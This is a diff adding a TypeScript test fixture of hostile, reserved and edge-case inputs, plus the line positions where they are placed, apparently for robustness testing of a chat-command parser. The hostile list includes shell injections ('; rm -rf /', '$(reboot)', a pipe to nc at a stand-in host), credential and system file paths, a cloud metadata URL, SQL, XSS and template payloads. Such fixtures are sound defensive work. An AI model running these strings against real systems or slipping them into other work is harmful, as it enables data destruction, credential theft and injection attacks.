@@ -1,0 +1,125 @@
+/** Words that people, phones, bots and attackers send. None of them means anything here, in any place of a line. */
+export const hostile: readonly string[] = [
+  // Shells
+  '$(reboot)',
+  '`reboot`',
+  '; rm -rf /',
+  '&& rm -rf ~',
+  '| nc evil.example 1',
+  '> /etc/passwd',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what is sent.
+  '${IFS}cat${IFS}/etc/passwd',
+  '%0a%0dreboot',
+  '$HOME/.ssh/id_ed25519',
+  '!!',
+  '*?[a-z]{1,2}',
+  // Paths and addresses
+  '../../etc/passwd',
+  '..\\..\\windows\\system32',
+  '/dev/zero',
+  'file:///etc/passwd',
+  'http://169.254.169.254/latest/meta-data/',
+  'javascript:alert(1)',
+  'data:text/html;base64,PHNjcmlwdD4=',
+  // Languages
+  "' OR '1'='1",
+  "'; DROP TABLE operations; --",
+  '1; SELECT pg_sleep(10)',
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '</textarea><svg onload=alert(1)>',
+  '{{7*7}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what is sent.
+  '${{ secrets.TOKEN }}',
+  '{"__proto__":{"admin":true}}',
+  '__proto__[admin]=1',
+  '%s%s%s%n',
+  '#cloud-config\nruncmd: [reboot]',
+  // Control characters, and text that reorders or hides
+  '\u0000',
+  'a\u0000b',
+  '\u001b[2J\u001b[31mred',
+  '\u0007\u0008\u007f',
+  'one\r\ntwo',
+  '\u0085\u2028\u2029x',
+  '\u202egnp.egami-esab',
+  '\u05e9\u05dc\u05d5\u05dd',
+  '\u0645\u0631\u062d\u0628\u0627',
+  '\ud800',
+  '\udfff\ud800',
+  '\ufffe\uffff',
+  'Z\u0351\u036b\u0343\u036a\u0302A\u0334\u0335L/G',
+  // Look-alikes
+  'b\u0430se-image',
+  'b\u03bfx',
+  '\u0455tart',
+  'ｂａｓｅ／ｉｍａｇｅ',
+  // Emoji
+  '😀',
+  '👩‍👩‍👧‍👦',
+  '🇰🇷🇷🇺',
+  '❤️',
+  // Mentions
+  '@channel',
+  '@here',
+  '<@U12345>',
+  '<!everyone>',
+  '<#C12345|general>',
+  '<https://evil.example|click>',
+  '&lt;b&gt;',
+  // Quotes and dashes
+  '"',
+  "'",
+  '“',
+  '«',
+  '"open',
+  "'open and “mixed",
+  '\\"',
+  '--',
+  '—',
+  '–—-',
+  '---',
+  '--=',
+  '--:',
+  '-—–−x=y=z',
+  '=',
+  ':',
+  '::',
+  '""',
+  // Size
+  'x'.repeat(10_240),
+  'x '.repeat(5_000),
+  '😀'.repeat(2_000),
+  '-'.repeat(3_000),
+  '"'.repeat(2_999),
+  `--${'y'.repeat(3_000)}`,
+];
+
+/** Words that mean something to a program; as a name they are names like any other. */
+export const reserved: readonly string[] = [
+  '-1',
+  'NaN',
+  'Infinity',
+  '1e309',
+  '0x7fffffff',
+  'constructor',
+  'toString',
+  'hasOwnProperty',
+  'undefined',
+  'null',
+];
+
+/** Places of a line that they are put into. */
+export const places: readonly (readonly [name: string, line: (words: string) => string])[] = [
+  ['as a whole line', (words) => words],
+  ['as a whole command', (words) => `/${words}`],
+  ['as a verb', (words) => `box ${words} base-image`],
+  ['as one word too many', (words) => `/box start base-image ${words} -- too many`],
+  ['as a flag', (words) => `box start base-image --${words}`],
+  ['as the name of what is there', (words) => `box start ${inQuotes(words)}`],
+  ['as a new name', (words) => `box start base-image --name ${inQuotes(words)}`],
+  ['as a size', (words) => `box start base-image --size=${inQuotes(words)}`],
+  ['as one of a list', (words) => `box start base-image color:${inQuotes(words)}`],
+];
+
+const inQuotes = (words: string): string => `"${words.replace(/[\\"“”„«»]/g, '\\$&')}"`;
